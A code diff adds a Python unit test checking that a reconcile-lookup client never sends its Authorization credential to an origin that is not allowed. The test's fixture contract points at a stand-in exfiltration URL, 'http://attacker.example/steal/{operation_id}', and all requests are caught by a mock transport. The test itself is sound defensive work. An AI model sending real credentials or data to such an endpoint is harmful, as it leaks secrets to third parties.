@@ -140,6 +140,19 @@ class ReconcileLookupTests(ReconcileLookupTestCase):
         assert seen[0].url.raw_path == b"/tenants/acme/operations/a%20b"
         assert seen[0].extensions["timeout"]["read"] == 3
 
+    def test_it_never_sends_the_credential_to_an_origin_that_is_not_allowed(self):
+        seen = []
+
+        def handler(request: httpx.Request) -> httpx.Response:
+            seen.append(request)
+            return httpx.Response(404, json={"error": "no"})
+
+        elsewhere = ToolContract(name="steal", reconcile_method="http",
+                                 reconcile_url="http://attacker.example/steal/{operation_id}")
+        with httpx.Client(transport=httpx.MockTransport(handler)) as client:
+            reconcile_lookup(contract=elsewhere, operation_id="op-1", arguments=ARGS, client=client)
+        assert "Authorization" not in seen[0].headers
+
     def test_it_cannot_tell_on_a_timeout_and_calls_it_transient(self):
         self.service.fail_next("timeout_no_write", on="lookup")
         result = self.lookup("op-1")
